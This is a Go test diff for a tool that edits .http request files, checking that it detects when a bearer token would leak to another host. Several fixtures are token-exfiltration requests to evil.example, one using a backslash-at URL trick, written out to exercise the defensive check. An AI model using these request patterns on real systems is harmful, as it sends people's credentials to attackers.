@@ -140,3 +140,77 @@ func TestEnvironmentHosts(t *testing.T) {
 		t.Errorf("http:// from the environment: %v", plan.Skipped)
 	}
 }
+
+// TestEnvUseFollowsTheTaint: in envFile mode the environment file never
+// gets the token when any request to another host references its
+// variable: directly, through file variables, through environment
+// variables, or (.env) as {{$dotenv doxToken}} or the plain {{doxToken}}
+// that httpyac also reads from .env.
+func TestEnvUseFollowsTheTaint(t *testing.T) {
+	dox := "GET https://" + doxHost + "/document-information-extraction/v1/x\nAuthorization: Bearer {{doxToken}}\n"
+	doxDotenv := "GET https://" + doxHost + "/document-information-extraction/v1/x\nAuthorization: Bearer {{$dotenv doxToken}}\n"
+	envs := map[string]map[string]string{"dev": {"relay": "Bearer {{doxToken}}"}}
+	tests := []struct {
+		name    string
+		src     string
+		dotenv  bool
+		envs    map[string]map[string]string
+		blocked string
+	}{
+		{"alone", dox, false, nil, ""},
+		{"a foreign request sends it", dox + "###\nGET https://evil.example/\nAuthorization: Bearer {{doxToken}}\n", false, nil,
+			"token variable {{doxToken}} is also sent to evil.example"},
+		{"in a foreign body", dox + "###\nPOST https://evil.example/\n\n{\"t\": \"{{doxToken}}\"}\n", false, nil,
+			"token variable {{doxToken}} is also sent to evil.example"},
+		{"through a file variable", "@wrapped = x-{{doxToken}}\n" + dox + "###\nGET https://evil.example/?q={{wrapped}}\n", false, nil,
+			"token variable {{doxToken}} is also sent to evil.example"},
+		{"through an environment variable", dox + "###\nGET https://evil.example/\nAuthorization: {{relay}}\n", false, envs,
+			"token variable {{doxToken}} is also sent to evil.example"},
+		{"the \\@ trick", dox + "###\nGET https://evil.example\\@" + doxHost + "/document-information-extraction/v1/x\nAuthorization: Bearer {{doxToken}}\n", false, nil,
+			"token variable {{doxToken}} is also sent to evil.example"},
+		{"over http", dox + "###\nGET http://" + doxHost + "/x\nAuthorization: Bearer {{doxToken}}\n", false, nil,
+			"token variable {{doxToken}} is also sent to " + doxHost},
+		{"dotenv, $dotenv form", doxDotenv + "###\nGET https://evil.example/\nX-Leak: {{$dotenv doxToken}}\n", true, nil,
+			"token variable {{$dotenv doxToken}} is also sent to evil.example"},
+		{"dotenv, httpyac's plain form", doxDotenv + "###\nGET https://evil.example/\nX-Leak: {{doxToken}}\n", true, nil,
+			"token variable {{doxToken}} is also sent to evil.example"},
+		{"json, a .env reference elsewhere", dox + "###\nGET https://evil.example/\nX-Other: {{$dotenv doxToken}}\n", false, nil, ""},
+	}
+	for _, tt := range tests {
+		opts := Options{APIHost: doxHost, Dotenv: tt.dotenv, Environments: tt.envs}
+		headers, blocked := EnvUse([]byte(tt.src), opts)
+		if len(headers) != 1 || headers[0].Header.Name != "Authorization" || blocked != tt.blocked {
+			t.Errorf("%s: %d headers, blocked %q, want 1 and %q", tt.name, len(headers), blocked, tt.blocked)
+		}
+		// PlanEdits agrees: the DOX request is skipped for the same reason.
+		plan := PlanEdits([]byte(tt.src), Options{Token: tokenA, APIHost: doxHost, Mode: ModeEnvFile, Dotenv: tt.dotenv, Environments: tt.envs, Line: headersLine(tt.src)})
+		if tt.blocked != "" && (len(plan.Skipped) != 1 || plan.Skipped[0].Reason != tt.blocked) {
+			t.Errorf("%s: PlanEdits skipped %v, want %q", tt.name, plan.Skipped, tt.blocked)
+		}
+	}
+}
+
+// TestBearer is the one reading of an Authorization value that the other
+// packages use.
+func TestBearer(t *testing.T) {
+	tests := []struct{ value, cred, ref string }{
+		{"Bearer abc.def", "abc.def", ""},
+		{"bearer   {{doxToken}} ", "{{doxToken}}", "doxToken"},
+		{"Bearer {{ $dotenv   doxToken }}", "{{ $dotenv   doxToken }}", "$dotenv doxToken"},
+		{"Bearer x{{doxToken}}", "x{{doxToken}}", ""},
+	}
+	for _, tt := range tests {
+		cred, ref, ok := Bearer(tt.value)
+		if !ok || cred != tt.cred || ref != tt.ref {
+			t.Errorf("Bearer(%q) = %q %q %v, want %q %q", tt.value, cred, ref, ok, tt.cred, tt.ref)
+		}
+	}
+	if _, _, ok := Bearer("Basic dXNlcjpwYXNz"); ok {
+		t.Error("Basic read as Bearer")
+	}
+}
+
+// headersLine is the line of the first request in src.
+func headersLine(src string) int {
+	return Parse([]byte(src)).Requests[0].Line
+}
